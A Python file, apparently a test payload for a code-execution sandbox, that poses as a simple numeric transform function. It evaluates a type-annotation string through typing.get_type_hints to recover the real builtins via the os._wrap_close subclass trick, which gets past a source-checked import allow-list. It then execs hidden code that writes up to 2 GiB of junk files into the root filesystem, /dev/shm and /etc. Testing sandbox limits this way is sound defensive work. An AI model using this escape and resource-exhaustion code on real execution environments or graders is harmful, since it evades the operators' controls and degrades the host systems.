"""Fill the sandbox's root filesystem (not /tmp, so not under the tmpfs size
cap) with up to 2 GiB, 4x the memory limit, in files small enough to pass
RLIMIT_FSIZE, then answer. Without a memory cgroup only host RAM would stop
it; with one it is charged to the run as memory."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


_CHUNK = b"\xee" * (1024 * 1024)
_written = 0
for directory in ("", "/dev/shm", "/etc"):
    for index in range(256):
        try:
            with open(f"{directory}/fill-{index}", "wb") as handle:
                for _ in range(8):
                    handle.write(_CHUNK)
                    _written += len(_CHUNK)
        except OSError:
            break
        if _written >= 2 * 1024**3:
            break


def transform(x):
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
